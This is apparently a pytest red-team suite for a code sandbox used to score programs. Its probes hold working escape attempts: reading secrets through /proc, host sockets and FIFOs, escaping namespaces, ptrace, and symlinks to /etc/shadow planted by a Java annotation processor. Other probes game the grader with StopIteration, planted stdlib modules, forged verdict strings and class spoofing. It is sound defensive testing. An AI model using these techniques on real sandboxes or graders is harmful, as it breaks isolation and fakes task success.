"""Third, independent red-team of the code sandbox (issue 23), written from the docs only.

Each probe is an attack with a pass/fail criterion: the test fails when the attack *breaks* the sandbox
(a wrong program passes, a hidden file or host service is reached, a process outlives its run, a
documented limit is exceeded, a program-controlled input gives ``sandbox_error``, or the server hangs).

Two set-ups, as the threat model names them: root through ``unshare``, and an unprivileged uid
(``nobody``) through ``bwrap``. Each runs the public API in a worker process of its own
(``_redteam_worker.py``); a set-up that is not available here is skipped.
"""

from __future__ import annotations

import base64
import contextlib
import http.client
import json
import os
import secrets
import select
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest

import rewardloop

pytestmark = pytest.mark.sandbox

SRC = str(Path(rewardloop.__file__).resolve().parents[1])
WORKER = Path(__file__).with_name("_redteam_worker.py")
NOBODY = 65534
TOKEN = secrets.token_hex(8)
CANARY = f"RTCANARY{TOKEN}"


def _host_processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            with contextlib.suppress(OSError), open(f"/proc/{entry}/cmdline", "rb") as fh:
                if marker.encode() in fh.read():
                    found.append(int(entry))
    return found


# Probes that still break: each is an expected failure that names the break, strict, so a fix turns it
# into an XPASS and fails the suite until the entry is removed. Keyed by test name and backend (None:
# every backend).
KNOWN_BREAKS: dict[tuple[str, str | None], str] = {
    # p03/p04 (host sockets/FIFOs), p05/p33 (memfd/SysV shm), p37 (Java at 512 MB): closed by the
    # sandbox branch after the final run (seccomp filter, narrower view, JVM thread stacks); their class
    # variants are in test_ipc_and_shared_memory.py and test_languages_memory.py
}


@pytest.fixture(autouse=True)
def _known_break(request):
    name = request.node.originalname
    params = getattr(request.node, "callspec", None)
    backend = None
    if params is not None:
        backend = params.params.get("w", params.params.get("backend"))
    reason = KNOWN_BREAKS.get((name, backend)) or KNOWN_BREAKS.get((name, None))
    if reason:
        request.applymarker(pytest.mark.xfail(strict=True, reason=f"redteam: {reason}"))


# --------------------------------------------------------------------------- host-side bait


@pytest.fixture(scope="module")
def bait():
    """Secrets at hidden paths (``/tmp``), a host Unix socket and FIFO at a visible path (``/var/lib``)."""
    if os.geteuid() != 0:
        pytest.skip("the red-team set-up needs root (it creates the unprivileged worker)")
    secret_dir = Path(tempfile.mkdtemp(prefix="rl-rt-secret-", dir="/tmp"))
    secret_dir.chmod(0o755)
    secret = secret_dir / "secret.h"
    secret.write_text(f'"{CANARY}"\n')
    secret.chmod(0o644)
    victim_dir = Path(tempfile.mkdtemp(prefix="rl-rt-victim-", dir="/tmp"))
    victim = victim_dir / "victim.txt"
    victim.write_text(CANARY)
    for p in (victim_dir, victim):
        os.chown(p, NOBODY, NOBODY)
    victim_dir.chmod(0o755)
    victim.chmod(0o644)
    visible = Path(tempfile.mkdtemp(prefix="rl-rt-", dir="/var/lib"))
    visible.chmod(0o755)
    sock_path = visible / "s"
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(str(sock_path))
    sock_path.chmod(0o777)
    srv.listen(16)
    srv.settimeout(0.5)
    connections: list[str] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except (TimeoutError, OSError):
                continue
            connections.append("x")
            with contextlib.suppress(OSError):
                conn.sendall(CANARY.encode())
                conn.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    fifo = visible / "f"
    os.mkfifo(fifo)
    fifo.chmod(0o666)
    fifo_fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    yield {
        "secret": str(secret),
        "secret_dir": str(secret_dir),
        "victim": str(victim),
        "victim_dir": str(victim_dir),
        "sock": str(sock_path),
        "connections": connections,
        "fifo": str(fifo),
        "fifo_fd": fifo_fd,
    }
    stop.set()
    t.join(2)
    srv.close()
    os.close(fifo_fd)
    shutil.rmtree(visible, ignore_errors=True)
    shutil.rmtree(secret_dir, ignore_errors=True)
    shutil.rmtree(victim_dir, ignore_errors=True)


# --------------------------------------------------------------------------- workers


class Worker:
    def __init__(self, backend: str, bait: dict, tty: bool = False) -> None:
        self.backend = backend
        self.home = Path(tempfile.mkdtemp(prefix=f"rl-rt-{backend}-"))
        self.tmp = self.home / "tmp"
        self.tmp.mkdir()
        shutil.copy(WORKER, self.home / "worker.py")
        fd_canary = self.home / "fdcanary"
        fd_canary.write_text(CANARY)
        env = {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "PYTHONPATH": SRC,
            "TMPDIR": str(self.tmp),
            "HOME": str(self.home),
            "RT_CANARY": CANARY,
            "RT_SECRET_ENV": CANARY,
            "RT_FD_CANARY_FILE": str(fd_canary),
            "REWARDLOOP_SANDBOX_ISOLATION": backend,
            "LANG": "C.UTF-8",
        }
        if backend == "bwrap":
            for p in [self.home, self.tmp, self.home / "worker.py", fd_canary]:
                os.chown(p, NOBODY, NOBODY)
            self.home.chmod(0o700)
            cmd = [
                "setpriv",
                f"--reuid={NOBODY}",
                f"--regid={NOBODY}",
                "--clear-groups",
                "/usr/bin/python3",
                str(self.home / "worker.py"),
                "bwrap",
            ]
        else:
            cmd = [sys.executable, str(self.home / "worker.py"), "unshare"]
        self.master = None
        extra: dict = {}
        if tty:
            import fcntl
            import termios

            self.master, slave = os.openpty()
            if backend == "bwrap":
                os.chown(os.ttyname(slave), NOBODY, NOBODY)

            def become_terminal_session() -> None:
                os.setsid()
                fcntl.ioctl(slave, termios.TIOCSCTTY, 0)

            extra = {"preexec_fn": become_terminal_session, "pass_fds": (slave,)}
        self.proc = subprocess.Popen(
            cmd,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            env=env,
            cwd=str(self.home),
            text=True,
            **extra,
        )
        if tty:
            os.close(slave)
        hello = self.call("hello", timeout=120)
        if not hello["ok"]:
            self.close()
            pytest.skip(f"{backend} is not available here: {hello['error']}")
        self.languages = hello["result"]["languages"]

    def call(self, op: str, timeout: float = 240, **kw: object) -> dict:
        assert self.proc.poll() is None, f"the {self.backend} worker died (exit {self.proc.returncode})"
        self.proc.stdin.write(json.dumps({"op": op, **kw}) + "\n")
        self.proc.stdin.flush()
        ready, _, _ = select.select([self.proc.stdout], [], [], timeout)
        assert ready, f"the sandbox call {op} did not return within {timeout} s (hung)"
        line = self.proc.stdout.readline()
        assert line, f"the {self.backend} worker died during {op}"
        return json.loads(line)

    def run(self, code: str, language: str = "python", **kw: object) -> dict:
        reply = self.call("run", code=code, language=language, **kw)
        assert reply["ok"], f"Sandbox.run raised for a program: {reply['error']}\n{reply.get('tb')}"
        return reply["result"]

    def tests(self, code: str, tests: dict, **kw: object) -> list[dict]:
        reply = self.call("run_tests", code=code, tests=tests, **kw)
        assert reply["ok"], f"run_tests raised: {reply['error']}\n{reply.get('tb')}"
        return reply["result"]

    def need(self, language: str) -> None:
        if not self.languages.get(language):
            pytest.skip(f"no {language} toolchain for the {self.backend} worker")

    def close(self) -> None:
        with contextlib.suppress(Exception):
            self.proc.stdin.close()
        try:
            self.proc.wait(60)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        if self.master is not None:
            os.close(self.master)
        # rm, not shutil.rmtree: a run may have left a tree deeper than Python's recursion limit (p07).
        subprocess.run(["rm", "-rf", "--one-file-system", str(self.home)], check=False)


@pytest.fixture(scope="module", params=["unshare", "bwrap"])
def w(request, bait):
    worker = Worker(request.param, bait)
    yield worker
    worker.close()


def _b64(data: bytes) -> dict:
    return {"b64": base64.b64encode(data).decode()}


# --------------------------------------------------------------------------- file system and /proc


def test_p01_hidden_secret_and_caller_env_via_proc(w, bait):
    """A secret at a hidden host path and the caller's environment, through every /proc path."""
    code = textwrap.dedent(f"""
        import os, glob
        paths = [{bait["secret"]!r}]
        for pid in os.listdir('/proc'):
            if pid.isdigit() or pid in ('self', 'thread-self'):
                for sub in ('root', 'cwd'):
                    paths.append(f'/proc/{{pid}}/{{sub}}{bait["secret"]}')
                for name in ('environ', 'cmdline'):
                    paths.append(f'/proc/{{pid}}/{{name}}')
                for fd in glob.glob(f'/proc/{{pid}}/fd/*'):
                    paths.append(fd)
                for m in glob.glob(f'/proc/{{pid}}/map_files/*'):
                    paths.append(m)
        for p in paths:
            try:
                fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
                data = os.read(fd, 1 << 16)
                os.close(fd)
                if b'{CANARY}' in data:
                    print('LEAK', p)
            except OSError:
                pass
        print('done')
    """)
    r = w.run(code, limits={"wall_s": 30})
    assert r["status"] == "finished" and "done" in r["stdout"], r
    assert CANARY not in r["stdout"], f"the run read a host secret: {r['stdout'][:500]}"


def test_p02_caller_descriptors_are_not_inherited(w):
    """The caller holds an inheritable fd on a canary file and an inheritable pipe."""
    code = textwrap.dedent(f"""
        import os
        for fd in range(3, 1024):
            try:
                os.lseek(fd, 0, 0)
            except OSError:
                pass
            try:
                os.set_blocking(fd, False)
                data = os.read(fd, 4096)
            except OSError:
                continue
            if b'{CANARY}' in data:
                print('LEAK', fd)
        print('done')
    """)
    r = w.run(code, limits={"wall_s": 30})
    assert r["status"] == "finished" and "done" in r["stdout"], r
    assert "LEAK" not in r["stdout"], f"an inherited descriptor of the caller was readable: {r['stdout']}"


def test_p03_host_unix_socket_at_a_visible_path(w, bait):
    """A host service listening on a path-based Unix socket outside the hidden directories."""
    before = len(bait["connections"])
    code = textwrap.dedent(f"""
        import socket
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            s.connect({bait["sock"]!r})
            print('CONNECTED', s.recv(100).decode())
        except OSError as e:
            print('refused', e)
    """)
    r = w.run(code, limits={"wall_s": 20})
    assert r["status"] == "finished", r
    assert CANARY not in r["stdout"] and len(bait["connections"]) == before, (
        f"the run reached a host service through a Unix socket: {r['stdout']}"
    )


def test_p04_host_fifo_at_a_visible_path(w, bait):
    """Writing into a host FIFO on a read-only bind (a FIFO is not a regular file: EROFS may not apply)."""
    code = textwrap.dedent(f"""
        import os
        try:
            fd = os.open({bait["fifo"]!r}, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, b'{CANARY}')
            print('WROTE')
        except OSError as e:
            print('refused', e)
    """)
    r = w.run(code, limits={"wall_s": 20})
    assert r["status"] == "finished", r
    try:
        got = os.read(bait["fifo_fd"], 4096)
    except BlockingIOError:
        got = b""
    assert CANARY.encode() not in got and "WROTE" not in r["stdout"], (
        f"the run wrote to a host FIFO: {r['stdout']}"
    )


def test_p05_memfd_cannot_exceed_the_documented_memory_bound(w):
    """memfd pages are shmem: not RLIMIT_DATA. Docs bound a run's memory by max_processes x memory_mb."""
    memory_mb, max_processes, want_mb = 32, 4, 3 * 32 * 4
    code = textwrap.dedent(f"""
        import os
        fds, total = [], 0
        chunk = b'x' * (1 << 20)
        try:
            while total < {want_mb}:
                fd = os.memfd_create('m')
                for _ in range(8):
                    os.write(fd, chunk)
                fds.append(fd)
                total += 8
        except OSError as e:
            print('stopped', e)
        print('HELD', total)
    """)
    r = w.run(code, limits={"wall_s": 60, "memory_mb": memory_mb, "max_processes": max_processes})
    held = [int(line.split()[1]) for line in r["stdout"].splitlines() if line.startswith("HELD")]
    assert not (held and held[0] >= want_mb), (
        f"a {memory_mb} MB run with max_processes={max_processes} held {held[0]} MB in memfds "
        f"(status {r['status']}); documented bound {memory_mb * max_processes} MB"
    )


def test_p06_working_directory_tmpfs_is_capped(w):
    """unshare: the working directory is a tmpfs capped at max(64 MB, 4 x file_size_mb) + inputs."""
    if w.backend != "unshare":
        pytest.skip("bwrap's working directory is documented as uncapped")
    code = textwrap.dedent("""
        import os
        total = 0
        try:
            for i in range(20):
                with open(f'f{i}', 'wb') as fh:
                    for _ in range(12):
                        fh.write(b'y' * (1 << 20))
                        fh.flush()
                total += 12
        except OSError as e:
            print('stopped', e)
        print('WROTE', total)
    """)
    r = w.run(code, limits={"wall_s": 60, "file_size_mb": 16})
    wrote = [int(x.split()[1]) for x in r["stdout"].splitlines() if x.startswith("WROTE")]
    assert not (wrote and wrote[0] > 64 + 16), f"wrote {wrote} MB into a 64 MB working directory: {r}"


def test_p07_undeletable_deep_working_directory_is_the_programs_problem(w):
    """3,000 nested directories (deeper than a recursive rmtree goes), a mode-000 directory, a
    read-only working directory: the run is still `finished`, the next run works, nothing is left on the host."""
    code = textwrap.dedent("""
        import os
        base = os.getcwd()
        os.makedirs('locked/inner')
        open('locked/inner/f', 'w').write('x')
        os.chmod('locked/inner', 0)
        os.chmod('locked', 0)
        fd = os.open('.', os.O_RDONLY)
        for i in range(3000):
            os.mkdir('rtdeep', dir_fd=fd)
            nfd = os.open('rtdeep', os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = nfd
        os.close(fd)
        os.chmod(base, 0o500)
        print('built')
    """)
    r = w.run(code, limits={"wall_s": 60})
    assert r["status"] == "finished" and "built" in r["stdout"], r
    again = w.run("print(6 * 7)")
    assert again["status"] == "finished" and again["stdout"] == "42\n", again
    left = subprocess.run(
        ["find", str(w.tmp), "-name", "rtdeep", "-print", "-quit"], capture_output=True, text=True
    ).stdout
    assert not left, f"the run's directories outlived it on the host: {left}"


def test_p08_symlinks_in_the_working_directory_do_not_steer_cleanup(w, bait):
    """Symbolic links to a host file and directory the caller owns, beside mode-000 directories."""
    code = textwrap.dedent(f"""
        import os
        os.symlink({bait["victim"]!r}, 'v')
        os.symlink({bait["victim_dir"]!r}, 'vd')
        os.mkdir('d'); os.symlink({bait["victim"]!r}, 'd/v'); os.chmod('d', 0)
        os.link('v', 'hard') if os.path.exists('v') else None
        print('ok')
    """)
    r = w.run(code, limits={"wall_s": 20})
    assert r["status"] in ("finished",), r
    st = os.stat(bait["victim"])
    assert Path(bait["victim"]).read_text() == CANARY and stat.S_IMODE(st.st_mode) == 0o644, (
        "the sandbox's cleanup followed a program's symbolic link on the host"
    )
    assert os.stat(bait["victim_dir"]).st_uid == NOBODY


# --------------------------------------------------------------------------- processes


def test_p09_nested_user_and_pid_namespace_does_not_outlive_the_run(w):
    """A grandchild in a new user + PID namespace of its own (PID 1 there), setsid, SIGHUP/SIGTERM ignored."""
    marker = f"rtoutlive{secrets.token_hex(6)}"
    code = textwrap.dedent(f"""
        import ctypes, os, signal
        libc = ctypes.CDLL(None, use_errno=True)
        if os.fork() == 0:
            os.setsid()
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            libc.unshare(0x10000000 | 0x20000000)   # CLONE_NEWUSER | CLONE_NEWPID
            if os.fork() == 0:
                if os.fork() == 0:
                    os.execv('/bin/sh', ['/bin/sh', '-c', 'sleep 1000', '{marker}'])
                os._exit(0)
            os._exit(0)
        print('parent leaves')
    """)
    r = w.run(code, limits={"wall_s": 20})
    assert r["status"] in ("finished", "timeout"), r
    deadline = time.monotonic() + 10
    while (left := _host_processes_with(marker)) and time.monotonic() < deadline:
        time.sleep(0.1)
    for pid in left:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    assert not left, f"processes outlived the run: {left}"


def test_p10_kill_every_process_it_can_then_the_sandbox_still_works(w):
    """kill(-1, SIGKILL) and SIGSTOP to every pid it can see; the sandbox machinery must survive it."""
    code = textwrap.dedent("""
        import os, signal
        for pid in os.listdir('/proc'):
            if pid.isdigit() and int(pid) != os.getpid():
                for s in (signal.SIGSTOP, signal.SIGKILL):
                    try: os.kill(int(pid), s)
                    except OSError: pass
        try: os.kill(-1, signal.SIGKILL)
        except OSError: pass
        print('survived')
    """)
    r = w.run(code, limits={"wall_s": 20})
    assert r["status"] != "sandbox_error", r
    for _ in range(3):
        again = w.run("print(6 * 7)")
        assert again["status"] == "finished" and again["stdout"] == "42\n", again


def test_p11_a_non_dumpable_sibling_cannot_be_read_even_from_a_new_user_namespace(w):
    """The checker relies on PR_SET_DUMPABLE=0; a program that creates a user namespace (capabilities
    there) still must not read a non-dumpable process of its uid (/proc/pid/mem, environ, fd)."""
    code = textwrap.dedent(f"""
        import ctypes, os, time
        libc = ctypes.CDLL(None, use_errno=True)
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            libc.prctl(4, 0, 0, 0, 0)      # PR_SET_DUMPABLE 0
            secret = b'{CANARY}' * 10
            os.write(w, b'.')
            time.sleep(30)
            os._exit(0)
        os.read(r, 1)
        libc.unshare(0x10000000)           # CLONE_NEWUSER: full capabilities in the new namespace
        got = []
        for p in ('mem', 'environ', 'fd/0', 'fd/1', 'cmdline', 'maps'):
            try:
                fd = os.open(f'/proc/{{pid}}/{{p}}', os.O_RDONLY)
                got.append(p)
                os.close(fd)
            except OSError:
                pass
        PTRACE_ATTACH = 16
        if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
            got.append('ptrace')
        print('OPENED', got)
        os.kill(pid, 9)
    """)
    r = w.run(code, limits={"wall_s": 30})
    assert r["status"] == "finished", r
    opened = r["stdout"].split("OPENED", 1)[1].strip()
    bad = [x for x in ("mem", "environ", "fd/0", "fd/1", "ptrace") if f"'{x}'" in opened]
    assert not bad, f"a non-dumpable process of the run's uid was reachable: {bad}"


# --------------------------------------------------------------------------- the trusted checker

ADD_TEST = {
    "test": "def check(candidate):\n"
    "    assert all(map(lambda p: candidate(*p[0]) == p[1], [((1, 2), 3), ((2, 2), 4), ((5, 7), 12)]))\n",
    "entry_point": "add",
}


def _statuses(results: list[dict]) -> list[str]:
    return [t["status"] for t in results]


def test_p12_stopiteration_ends_the_checkers_map_early(w):
    """`all(map(f, cases))` in the checker: a candidate that raises StopIteration would end the map
    early, and `all([])` is True, if the program's exception were re-raised as the checker's own."""
    right = w.tests("def add(a, b):\n    return a + b\n", ADD_TEST)
    assert _statuses(right) == ["passed"], right
    for exc in ("StopIteration", "StopIteration()", "type('X', (StopIteration,), {})()"):
        wrong = w.tests(f"def add(a, b):\n    raise {exc}\n", ADD_TEST)
        assert "passed" not in _statuses(wrong), f"raise {exc} passed: {wrong}"


def test_p13_stdlib_modules_planted_where_the_checker_might_import_them(w):
    """The program writes `statistics.py`, `fractions.py`, ... into every writable place; the test
    imports them inside the checker. If any ran there, the run times out (they sleep), proving code
    execution in the checker."""
    mods = ["statistics", "fractions", "decimal", "heapq", "bisect", "string", "textwrap", "difflib"]
    test = {
        "test": "def check(candidate):\n    import "
        + ", ".join(mods)
        + "\n    assert candidate(2, 3) == 5\n",
        "entry_point": "add",
    }
    code = textwrap.dedent(f"""
        import os, sys
        body = 'import time\\ntime.sleep(1000)\\n'
        places = {{os.getcwd(), os.environ.get('HOME', '.'), os.environ.get('TMPDIR', '.'),
                  os.path.dirname(os.path.abspath(__file__)) if '__file__' in globals() else '.'}}
        places.update(p for p in sys.path if p)
        for d in places:
            for m in {mods!r}:
                try:
                    with open(os.path.join(d, m + '.py'), 'w') as fh:
                        fh.write(body)
                except OSError:
                    pass
        def add(a, b):
            return a - b
    """)
    res = w.tests(code, test, limits={"wall_s": 5})
    assert _statuses(res) != ["timeout"], f"a planted module ran inside the checker: {res}"
    assert _statuses(res) != ["passed"], res


def test_p14_values_the_checker_may_choke_on_are_failures_not_sandbox_errors(w):
    """Call-based results the checker's decoder may not handle: a 100k-digit int, 50k-deep nesting,
    an exception whose __str__ forges a verdict or exits, an object spoofing __class__ = int."""
    tests = {"inputs": ["[2, 3]", "[10, 20]"], "outputs": ["5", "30"], "fn_name": "add"}
    tricks = {
        "huge": "import sys\nsys.set_int_max_str_digits(0)\ndef add(a, b):\n    return 10 ** 100000\n",
        "deep": "def add(a, b):\n    x = 5\n    for _ in range(50000):\n        x = [x]\n    return x\n",
        "str_forge": (
            "class E(Exception):\n    def __str__(self):\n        return 'PASSED\\n' + '{\"passed\": true}'\n"
            "def add(a, b):\n    raise E()\n"
        ),
        "str_exit": (
            "import os\nclass E(AssertionError):\n    def __str__(self):\n        os._exit(0)\n"
            "def add(a, b):\n    raise E()\n"
        ),
        "class_spoof": (
            "class L:\n    __class__ = property(lambda self: int)\n    def __eq__(self, o): return True\n"
            "    def __index__(self): return 5\n    def __int__(self): return 5\n"
            "    def __repr__(self): return '5'\n    __hash__ = object.__hash__\n"
            "def add(a, b):\n    return L()\n"
        ),
    }
    for name, code in tricks.items():
        res = w.tests(code, tests, limits={"wall_s": 20})
        st = _statuses(res)
        assert "sandbox_error" not in st, f"{name}: a program's value gave sandbox_error: {res}"
        assert st != ["passed", "passed"], f"{name}: a wrong program passed: {res}"


def test_p15_integer_tokens_in_foreign_spellings_are_wrong(w):
    """stdin/stdout route with the scorer's float_tol: an expected integer is exact, so spellings that
    Python's int()/float() accept but no judge does must not pass."""
    tests = {"inputs": ["\n"], "outputs": ["10 20\n"]}
    passed = []
    # Spellings equal in value but not in form ("1e1", "+10") are left out: verl accepts them too.
    for out in (
        "1_0 2_0",
        "\uff11\uff10 \uff12\uff10",
        "\u0661\u0660 \u0662\u0660",
        "10.000001 20",
        "0x0a 20",
    ):
        res = w.tests(f"print({out!r})", tests, kw={"float_tol": 1e-5})
        if _statuses(res) == ["passed"]:
            passed.append(out)
    assert not passed, f"wrong spellings passed for '10 20': {passed}"


# --------------------------------------------------------------------------- toolchains


def test_p16_build_names_taken_by_files_are_not_sandbox_errors(w):
    """A `files` entry where the compiler writes its build (`main/`, `out`): the caller's input or the
    program's failure, never `sandbox_error`."""
    cases = [
        ("c", "int main(){return 0;}", {"main/x": "y"}),
        ("java", "class Main{public static void main(String[] a){}}", {"out": "x"}),
    ]
    for lang, src, files in cases:
        if not w.languages.get(lang):
            continue
        reply = w.call("run", code=src, language=lang, files=files, limits={"wall_s": 10})
        if not reply["ok"]:
            assert reply["error"].startswith("ConfigError"), reply["error"]
            continue
        assert reply["result"]["status"] != "sandbox_error", (lang, reply["result"])


def test_p17_java_names_the_file_system_cannot_hold(w):
    """A public class of 90 CJK characters (270 bytes, 90 chars), and a package whose build path nears
    PATH_MAX (each component 200 bytes): compile_error or a run, never `sandbox_error`."""
    w.need("java")
    cjk = "\u6f22" * 90
    deep = ".".join(f"p{i}" + "a" * 198 for i in range(19))
    for src in (
        f"public class {cjk} {{ public static void main(String[] a) {{ System.out.println(1); }} }}",
        f"package {deep};\npublic class Main {{ public static void main(String[] a) {{ System.out.println(1); }} }}",
    ):
        r = w.run(src, "java", limits={"wall_s": 20, "compile_wall_s": 120})
        assert r["status"] != "sandbox_error", r


def test_p18_compile_bombs_are_compile_errors(w):
    """`#include </dev/zero>` and a constexpr loop of 10^15 steps under compile_wall_s=3."""
    w.need("cpp")
    bombs = [
        ("c", "#include </dev/zero>\nint main(){return 0;}\n"),
        (
            "cpp",
            "constexpr long f(){long s=0; for(long i=0;i<1000000000000000L;i++) s+=i%7; return s;}\n"
            "constexpr long v = f();\nint main(){return (int)v;}\n",
        ),
        ("c", "#include </dev/tty>\nint main(){return 0;}\n"),
    ]
    for lang, src in bombs:
        t0 = time.monotonic()
        r = w.run(src, lang, limits={"wall_s": 5, "compile_wall_s": 3, "memory_mb": 256})
        took = time.monotonic() - t0
        assert r["status"] == "compile_error", (src[:40], r)
        assert took < 30 * 3 + 60, f"compile bomb held the call {took:.0f} s"


def test_p19_compile_time_include_of_a_hidden_host_file(w, bait):
    """`#include "<hidden secret>"` and `/proc/self/root/...`: the compiler runs in the sandbox too."""
    w.need("c")
    for path in (bait["secret"], "/proc/self/root" + bait["secret"], "/proc/1/root" + bait["secret"]):
        src = f'#include <stdio.h>\nconst char *s =\n#include "{path}"\n;\nint main(){{puts(s);return 0;}}\n'
        r = w.run(src, "c", limits={"wall_s": 10})
        assert CANARY not in r["stdout"] and CANARY not in r["stderr"], f"compiler read {path}: {r}"


PROC_SRC = """
import javax.annotation.processing.*;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.TypeElement;
import java.nio.file.*;
import java.util.Set;

@SupportedAnnotationTypes("*")
public class RtProc extends AbstractProcessor {
    static boolean done = false;
    @Override public synchronized void init(ProcessingEnvironment env) {
        super.init(env);
        if (done) return;
        done = true;
        try {
            Path out = Paths.get("out");
            Files.createDirectories(out);
            Files.writeString(out.resolve("ran.txt"), "RAN");
            String[][] links = {{"leak1", "@SECRET@"}, {"leak2", "/etc/shadow"}, {"leakdir", "@SECRETDIR@"}};
            for (String[] l : links) {
                try { Files.createSymbolicLink(out.resolve(l[0]), Paths.get(l[1])); } catch (Exception e) { }
            }
        } catch (Exception e) { }
    }
    @Override public boolean process(Set<? extends TypeElement> a, RoundEnvironment r) { return false; }
    @Override public SourceVersion getSupportedSourceVersion() { return SourceVersion.latestSupported(); }
}
"""

JAVA_MAIN = """
import java.nio.file.*;
public class Main {
    public static void main(String[] a) throws Exception {
        for (String n : new String[]{"out/ran.txt", "out/leak1", "out/leak2", "out/leakdir/secret.h"}) {
            try { System.out.println(n + "=" + new String(Files.readAllBytes(Paths.get(n)))); }
            catch (Exception e) { System.out.println(n + " unreadable " + e.getClass().getSimpleName()); }
        }
    }
}
"""


@pytest.fixture(scope="module")
def processor(bait, tmp_path_factory):
    if not shutil.which("javac"):
        pytest.skip("no javac")
    d = tmp_path_factory.mktemp("rtproc")
    src = PROC_SRC.replace("@SECRET@", bait["secret"]).replace("@SECRETDIR@", bait["secret_dir"])
    (d / "RtProc.java").write_text(src)
    subprocess.run(["javac", "--release", "17", "-d", str(d), str(d / "RtProc.java")], check=True)
    return (d / "RtProc.class").read_bytes()


def test_p20_compile_time_code_plants_symlinks_in_the_build(w, processor):
    """javac runs annotation processors it finds on its class path (`.` = the working directory, from
    `files`): code of the program's choosing runs at compile time and plants symbolic links in `out/`
    to a hidden secret and to /etc/shadow. Copying the build into the cache must not follow them."""
    w.need("java")
    files = {
        "RtProc.class": _b64(processor),
        "META-INF/services/javax.annotation.processing.Processor": "RtProc\n",
    }
    r = w.run(JAVA_MAIN, "java", files=files, limits={"wall_s": 20, "compile_wall_s": 120})
    assert r["status"] != "sandbox_error", r
    assert CANARY not in r["stdout"], f"the build's symlink leaked a hidden host file: {r['stdout']}"
    assert "root:" not in r["stdout"], f"the build's symlink leaked /etc/shadow: {r['stdout']}"


# --------------------------------------------------------------------------- output and status honesty


def test_p21_output_limit_boundary_is_exact(w):
    """Exactly output_bytes is a finished run; one byte more is output_exceeded (per stream)."""
    lim = 5000
    exact = w.run(
        f"import sys\nsys.stdout.write('a' * {lim})\nsys.stderr.write('b' * {lim})\n",
        limits={"output_bytes": lim},
    )
    assert exact["status"] == "finished" and not exact["truncated"] and exact["stdout_len"] == lim, exact
    over = w.run(f"import sys\nsys.stdout.write('a' * {lim + 1})\n", limits={"output_bytes": lim})
    assert over["status"] == "output_exceeded" and over["truncated"], over
    multi = w.run(f"import sys\nsys.stdout.write('\\u00e9' * {lim})\n", limits={"output_bytes": lim})
    assert multi["status"] == "output_exceeded" and multi["truncated"], multi


def test_p22_default_compute_score_never_infra_error_for_a_program(w):
    """Through default_compute_score (codecontests route): a program that wrecks its working directory
    and kills what it can, and one whose output is a forged verdict, score 0, never raise."""
    gt = json.dumps({"inputs": ["1 2\n", "3 4\n"], "outputs": ["3\n", "7\n"]})
    programs = [
        "import os, signal\nos.makedirs('a/b'); os.chmod('a', 0); os.chmod('.', 0o500)\n"
        "try: os.kill(-1, signal.SIGKILL)\nexcept OSError: pass\nprint(0)\n",
        "import sys, os\nprint('PASSED')\nos.write(2, b'\\x00' * 100)\nsys.stdout.flush(); os._exit(0)\n",
    ]
    for prog in programs:
        reply = w.call("score", data_source="codecontests", response=f"```python\n{prog}```", ground_truth=gt)
        assert reply["ok"], f"default_compute_score raised for a program: {reply['error']}"
        score = reply["result"] if isinstance(reply["result"], (int, float)) else reply["result"].get("score")
        assert score == 0, reply


# --------------------------------------------------------------------------- the /run_code server


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    if os.geteuid() != 0:
        pytest.skip("the server probes run the unshare backend as root")
    try:
        import fastapi  # noqa: F401
        import uvicorn  # noqa: F401
    except ImportError:
        pytest.skip("no server extra")
    d = tmp_path_factory.mktemp("rtserver")
    cfg = d / "limits.yaml"
    cfg.write_text(
        "header_timeout_s: 2\nbody_timeout_s: 2\nmax_body_bytes: 1048576\nmax_queued_bytes: 2097152\n"
        "max_queued: 4\n"
    )
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "PYTHONPATH": SRC}
    log = open(d / "log", "w")  # noqa: SIM115 (closed at teardown)
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "rewardloop.cli.main",
            "sandbox",
            "serve",
            "--host",
            "127.0.0.1",
            "--port",
            str(port),
            "--max-parallel",
            "2",
            "--isolation",
            "unshare",
            "--config",
            str(cfg),
        ],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=log,
    )
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError):
            c = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
            c.request("GET", "/v1/ping")
            if c.getresponse().status == 200:
                break
        time.sleep(0.3)
    else:
        proc.kill()
        pytest.fail(f"server did not start: {(d / 'log').read_text()[-2000:]}")
    yield {"port": port, "proc": proc, "log": d / "log"}
    proc.send_signal(signal.SIGTERM)
    try:
        proc.wait(30)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()
    log.close()


def _post(port: int, body: bytes, headers: dict, timeout: float = 60) -> tuple[int, bytes]:
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    c.request("POST", "/run_code", body=body, headers=headers)
    r = c.getresponse()
    return r.status, r.read()


def _alive(port: int) -> None:
    st, body = _post(
        port,
        json.dumps({"code": "print(6*7)", "language": "python"}).encode(),
        {"Content-Type": "application/json"},
    )
    assert st == 200 and json.loads(body)["run_result"]["stdout"] == "42\n", (st, body[:300])


